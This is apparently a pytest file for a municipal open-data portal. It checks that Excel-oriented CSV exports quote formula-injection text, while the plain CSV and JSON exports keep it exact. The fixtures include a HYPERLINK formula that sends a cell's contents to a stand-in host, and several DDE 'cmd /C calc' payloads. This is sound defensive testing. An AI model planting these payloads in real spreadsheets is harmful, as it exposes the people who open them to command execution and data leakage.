"""Formula injection (#22 item 6): every file meant for Excel neutralises cells Excel would run;
the plain UTF-8 CSV and the JSON keep the data exact. Files are generated in the test."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pandas as pd

from portal.opendata_list import opendata_list_csv
from portal.publishing.formats import write_csv, write_excel_csv, write_json, write_sjis_csv
from portal.publishing.normalize import Column

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"鹿沼")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "鹿沼市"]
QUOTED = ["'" + text for text in HOSTILE[:5]] + ["鹿沼市"]


def _columns() -> list[Column]:
    return [Column("名称", "string", list(HOSTILE), list(HOSTILE)),
            Column("増減", "integer", [-5, 3, -1, 0, 7, -12],
                   ["-5", "3", "-1", "0", "7", "-12"])]


def _read(path: Path, encoding: str) -> pd.DataFrame:
    return pd.read_csv(path, encoding=encoding, keep_default_na=False)


def test_sjis_and_excel_variants_quote_formula_text_and_keep_negative_numbers(
        tmp_path: Path) -> None:
    write_excel_csv(tmp_path / "t.excel.csv", _columns())
    write_sjis_csv(tmp_path / "t.sjis.csv", _columns())
    for name, encoding in (("t.excel.csv", "utf-8-sig"), ("t.sjis.csv", "cp932")):
        frame = _read(tmp_path / name, encoding)
        assert list(frame.columns) == ["名称", "増減"]
        assert frame["名称"].tolist() == QUOTED, name
        assert frame["増減"].tolist() == [-5, 3, -1, 0, 7, -12], name
        assert frame["増減"].dtype.kind == "i", name


def test_plain_csv_and_json_keep_formula_text_exact(tmp_path: Path) -> None:
    write_csv(tmp_path / "t.csv", _columns())
    write_json(tmp_path / "t.json", _columns(),
               {"fields": [{"name": "名称", "type": "string"}, {"name": "増減", "type": "integer"}]})
    assert _read(tmp_path / "t.csv", "utf-8")["名称"].tolist() == HOSTILE
    rows = json.loads((tmp_path / "t.json").read_text(encoding="utf-8"))["rows"]
    assert [row["名称"] for row in rows] == HOSTILE
    assert [row["増減"] for row in rows] == [-5, 3, -1, 0, 7, -12]


def test_catalog_csv_quotes_a_formula_title_and_description() -> None:
    portal = {"local_government_code": "092053", "prefecture": {"ja": "栃木県"},
              "city": {"ja": "鹿沼市"}}
    entry = {"id": "facilities", "status": "published",
             "title": {"ja": HOSTILE[0]}, "description": {"ja": HOSTILE[1]},
             "category": "administration", "tags": ["=cmd|' /C calc'!A0"],
             "issued": "2026-01-05", "modified": "2026-02-01", "frequency": "annual",
             "license": "CC-BY-4.0", "resources": [{"name": "main"}]}
    body = opendata_list_csv(portal, [entry], "https://opendata.example.jp")
    frame = pd.read_csv(io.BytesIO(body), encoding="utf-8-sig", dtype=str,
                        keep_default_na=False)
    row = frame.iloc[0]
    assert row["データ名称"] == "'" + HOSTILE[0]
    assert row["概要"] == "'" + HOSTILE[1]
    assert row["キーワード"] == "'=cmd|' /C calc'!A0"
    assert row["ID"] == "facilities"
    assert row["全国地方公共団体コード"] == "092053"
    assert row["URL"] == "https://opendata.example.jp/datasets/facilities/main.csv"


def test_a_catalog_csv_imported_again_keeps_the_texts_it_quoted(test_catalog: Path,
                                                                tmp_path: Path) -> None:
    from portal.catalog.write import load_document, plain
    from portal.ingest.files import read_list
    from portal.ingest.listing import plan_list

    portal = {"local_government_code": "092053", "prefecture": {"ja": "栃木県"},
              "city": {"ja": "鹿沼市"}}
    entry = {"id": "facilities", "status": "published", "title": {"ja": "=1+1 の施設"},
             "description": {"ja": "- 年度は西暦です。"}, "category": "administration",
             "tags": [], "issued": "2026-01-05", "modified": "2026-02-01",
             "frequency": "annual", "license": "CC-BY-4.0", "resources": [{"name": "main"}]}
    listing = tmp_path / "catalog.csv"
    listing.write_bytes(opendata_list_csv(portal, [entry], ""))
    assert "'- 年度は西暦です。" in listing.read_text(encoding="utf-8-sig")
    (plan,) = plan_list(read_list(listing), plain(load_document(test_catalog)["portal"]))
    assert plan.entry["title"]["ja"] == "=1+1 の施設"
    assert plan.entry["description"]["ja"] == "- 年度は西暦です。"
